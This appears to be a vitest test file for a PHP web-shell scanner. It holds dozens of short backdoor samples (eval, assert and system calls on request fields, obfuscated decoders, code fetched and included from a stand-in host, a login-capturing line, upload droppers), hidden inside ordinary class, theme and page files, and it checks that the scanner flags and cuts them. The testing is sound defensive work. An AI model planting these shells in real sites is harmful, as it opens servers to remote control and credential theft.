import { describe, expect, test } from 'vitest';
import { PADDING } from './lexer/lex-php.ts';
import { findCuts } from './mend/find-cuts.ts';
import { judgePhp } from './scan/judge-php.ts';
import { judgeText, shippedJudge } from './testing/judge-text.ts';
import { legitimateClass, legitimatePage, legitimateTheme } from './testing/legitimate-files.ts';

/**
 * Stand-ins of ours, judged in memory and never written anywhere: what shells of a line or two do,
 * put where attackers put them in files of some six hundred lines that are somebody's own.
 */
const judge = shippedJudge();

const RUNS: Record<string, string> = {
  'eval of a field': `@eval($_POST["stoika"]);`,
  'eval of a cookie': `if (isset($_COOKIE['stoika'])) { @eval(base64_decode($_COOKIE['stoika'])); }`,
  'eval of a header': `eval($_SERVER['HTTP_X_STOIKA']);`,
  'eval of the request body': `eval(file_get_contents('php://input'));`,
  'eval by way of variables': `$a = $_REQUEST['stoika']; $b = stripslashes($a); eval($b);`,
  'eval of what is left of a name': `$k = 'stoika'; $v = $_POST; @eval($v[$k]);`,
  assert: `@assert($_REQUEST['stoika']);`,
  'assert of what is decoded': `assert(str_rot13($_GET['stoika']));`,
  system: `@system($_GET["stoika"]);`,
  'a command that is shown': `echo shell_exec($_REQUEST['stoika']);`,
  'a command in backticks': 'echo `{$_GET["stoika"]}`;',
  'a command of a header': `passthru($_SERVER['HTTP_USER_AGENT']);`,
  'a command through a pipe': `$p = popen($_POST['stoika'], 'r'); echo fread($p, 4096);`,
  include: `@include($_GET['stoika']);`,
  'an included body': `include 'php://input';`,
  'a pattern that runs': `preg_replace('/.*/e', $_POST['stoika'], '');`,
  create_function: `$f = create_function('', $_POST['stoika']); $f();`,
  call_user_func: `call_user_func($_GET['f'], $_GET['stoika']);`,
  'call_user_func by name': `call_user_func('assert', $_POST['stoika']);`,
  array_map: `array_map('assert', (array) $_POST['stoika']);`,
  'array_map by request': `array_map($_GET['f'], array($_GET['stoika']));`,
  array_filter: `array_filter(array($_POST['stoika']), 'system');`,
  usort: `usort($_GET['stoika'], 'as' . 'sert');`,
  'a called field': `$_GET['f']($_POST['stoika']);`,
  'a built name': `$f = 'sys' . 'tem'; $f($_GET['stoika']);`,
  'a decoded name': `$f = base64_decode('c3lzdGVt'); $f($_GET['stoika']);`,
  'packed code': `eval(gzinflate(base64_decode('K64sLknN1VBQiVYqLskvys9OVIrVtAYA')));`,
  'code from elsewhere': `eval(file_get_contents('https://stoika.test/code.txt'));`,
  'a shell in pieces of cookies': `$ed = $_COOKIE; ($ed && isset($ed[21])) ? (($ay = $ed[21] . $ed[36]) && ($fk = $ay($ed[72] . $ed[67])) && @$fk($ay($ed[44]))) : $ed;`,
  'a shell in variables of the request': `extract($_REQUEST); @die($stoika($text));`,
  'a shell that keeps its code in the session': `$k = 'stoika'; function unlock($d, $k) { for ($i = 0; $i < strlen($d); $i++) { $d[$i] = $d[$i] ^ $k[$i % 6]; } return $d; } if (isset($_POST['d'])) { $p = unlock(base64_decode($_POST['d']), $k); eval($p); }`,
  'a shell in the request body': `if (@preg_match('/aa(.+)bb/', @file_get_contents('php://input'), $m) == 1) { @eval(@gzuncompress(@base64_decode($m[1]))); }`,
  'a process': `$p = proc_open($_POST['stoika'], array(1 => array('pipe', 'w')), $o); echo stream_get_contents($o[1]);`,
  'what runs at the end': `register_shutdown_function($_POST['f'], $_POST['stoika']);`,
  'a changed theme': `if (isset($_REQUEST['action']) && $_REQUEST['password'] == '0123456789abcdef') { file_put_contents(__DIR__ . '/functions.php', $_REQUEST['stoika']); }`,
  'a hidden include': '@include "\\x2fhome\\x2fsite\\x2f.cache.ico";',
  'a fetched include': `$t = tempnam('/tmp', 'x'); $c = curl_init('https://stoika.test/c.txt'); file_put_contents($t, curl_exec($c)); include $t;`,
  'a written script': `file_put_contents('cache.php', $_POST['stoika']);`,
  'a decoder in a loop': `$d = 'qlglggf!hgnnf#qvmkib'; $o = ''; for ($i = 0; $i < strlen($d); $i++) { $o .= chr(ord($d[$i]) ^ 3); } eval($o);`,
  'a picture that is run': `$f = dirname(__FILE__) . '/images/stoika.ico'; if (is_file($f)) { include $f; }`,
  'a loader that asks nobody': `eval('?>' . file_get_contents('https://stoika.test/?h=' . $_SERVER['HTTP_HOST']));`,
  'passwords in a picture': `if (isset($_POST['log'])) { file_put_contents('wp-includes/images/x.gif', $_POST['log'] . ':' . $_POST['pwd'], FILE_APPEND); }`,
  'a fetched script': `$c = curl_init('https://stoika.test/x.txt'); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); file_put_contents('cache.php', curl_exec($c));`,
};

const SAVES: Record<string, string> = {
  'an upload under its own name': `if (isset($_FILES['stoika'])) { move_uploaded_file($_FILES['stoika']['tmp_name'], $_FILES['stoika']['name']); }`,
  'a copied upload': `@copy($_FILES['stoika']['tmp_name'], $_POST['path']);`,
};

const PLACES: Record<string, (code: string) => string> = {
  'an island before a class': (code) => `<?php ${code} ?>\n<?php\n${legitimateClass()}`,
  'an island behind a class': (code) => `<?php\n${legitimateClass()}?>\n<?php ${code} ?>`,
  'an island in a page': (code) => legitimatePage(`<?php ${code} ?>\n`),
  'an island before a page': (code) => `<?php ${code} ?>${legitimatePage()}`,
  'the first line': (code) => `<?php ${code}\n${legitimateClass()}`,
  'the first line behind the tag': (code) => `<?php\n${code}\n${legitimateClass()}`,
  'the last line': (code) => `<?php\n${legitimateClass()}\n${code}\n`,
  'a method of a class': (code) => `<?php\n${legitimateClass(code)}`,
  'far to the right': (code) =>
    `<?php\n${legitimateClass(`$this->errors = array();${' '.repeat(300)}${code}`)}`,
  'far to the right of the tag': (code) => `<?php${' '.repeat(300)}${code}\n${legitimateTheme()}`,
  'between functions of a theme': (code) => `<?php\n${legitimateTheme(`${code}\n`)}`,
  'a closure of a theme': (code) =>
    `<?php\n${legitimateTheme(`add_action( 'init', function () { ${code} } );\n`)}`,
  'a function of a theme': (code) =>
    `<?php\n${legitimateTheme(`function inn_check() {\n    ${code}\n}\nadd_action( 'init', 'inn_check' );\n`)}`,
};

/** Each of them in each place with `GUARD_CASES`; else every fourth pair, so that all are tried. */
const all = process.env['GUARD_CASES'] !== undefined;
const tried = (codes: Record<string, string>, place: number) =>
  Object.entries(codes).filter((_, at) => all || (at + place) % 4 === 0);
const places = Object.entries(PLACES).map(([name, put], at) => ({ name, put, at }));

describe('The file alone', () => {
  test.each([
    ['class', `<?php\n${legitimateClass()}`],
    ['theme', `<?php\n${legitimateTheme()}`],
    ['page', legitimatePage()],
  ])('%s is clean', async (_, text) => {
    expect(await judgeText(judge, text)).toMatchObject({ class: 'clean', actionable: false });
  });
});

describe.each(places)('In $name', ({ put, at }) => {
  test.each(tried(RUNS, at))('%s is acted on', async (_, code) => {
    const verdict = await judgeText(judge, put(code));
    expect(verdict, JSON.stringify(verdict)).toMatchObject({ actionable: true });
  });

  test.each(Object.entries(SAVES))('%s is reported', async (_, code) => {
    const verdict = await judgeText(judge, put(code));
    expect(verdict.class, JSON.stringify(verdict)).not.toBe('clean');
  });

  test.each(tried(RUNS, at + 2))('%s is cut, and nothing of the owner’s', (name, code) => {
    const text = put(code);
    const content = Buffer.from(text, 'latin1');
    const bytes = Buffer.concat([content, Buffer.alloc(PADDING)]);
    const verdict = judgePhp(judge, bytes, content.length);
    const cut = findCuts(judge, bytes, content.length, verdict)[0];
    const taken = cut ? text.slice(cut.offset, cut.offset + cut.length) : '';
    const plain = (part: string) => part.replaceAll(/\s|<\?php|\?>/g, '');
    // `extract` makes the owner's variables the request's: what he does with them looks no better.
    if (!name.includes('variables of the request')) expect(verdict.class).toBe('compromised');
    expect(taken).not.toBe('');
    expect(plain(code)).toContain(plain(taken));
  });
});
